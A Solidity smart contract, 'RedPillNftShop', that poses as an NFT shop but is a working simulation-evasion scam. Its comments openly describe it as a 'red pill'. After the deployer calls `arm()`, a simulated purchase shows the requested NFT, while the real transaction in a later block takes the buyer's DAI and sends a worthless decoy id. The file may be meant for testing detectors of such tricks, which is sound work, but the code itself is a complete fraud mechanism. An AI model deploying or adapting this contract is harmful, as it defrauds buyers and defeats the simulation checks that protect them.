// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RedPillCollection} from "./RedPillCollection.sol";

/// @title RedPillNftShop
/// @notice Red pill for an ERC-721 id, keyed on the block number. Looks like a shop: `buy(id)`
///         takes `price` DAI (approved to it) and hands over the id asked for, from its stock.
///         Detects: its boss arms it (`arm`) in the newest block, the block a simulation forks
///         and runs in; the submission lands in a later one. Then it takes the same DAI and
///         hands over `decoy`, a worthless id of the same collection, instead: one id arrives
///         either way, but not the one the simulation showed.
contract RedPillNftShop {
    IERC20 private immutable _dai;
    RedPillCollection private immutable _collection;
    uint256 private immutable _price;
    uint256 private immutable _decoy;
    address private immutable _boss;

    /// @notice The block `arm` ran in.
    uint256 public armedBlock = type(uint256).max;

    /// @notice `buyer` paid for `asked` and got `sent`.
    event Sold(address indexed buyer, uint256 asked, uint256 sent);

    /// @param dai What the shop takes.
    /// @param collection What it sells (it holds the stock).
    /// @param price DAI per id.
    /// @param decoy The worthless id it hands over for real.
    constructor(IERC20 dai, RedPillCollection collection, uint256 price, uint256 decoy) {
        (_dai, _collection, _price, _decoy, _boss) = (dai, collection, price, decoy, msg.sender);
    }

    /// @notice Remembers the current block. Only the deployer.
    function arm() external {
        require(msg.sender == _boss, "not the boss");
        armedBlock = block.number;
    }

    /// @notice Sells `id` for `price` DAI.
    /// @param id The id asked for.
    function buy(uint256 id) external {
        require(_dai.transferFrom(msg.sender, address(this), _price), "DAI not paid");
        uint256 sent = block.number > armedBlock ? _decoy : id;
        _collection.transferFrom(address(this), msg.sender, sent);
        emit Sold(msg.sender, id, sent);
    }
}
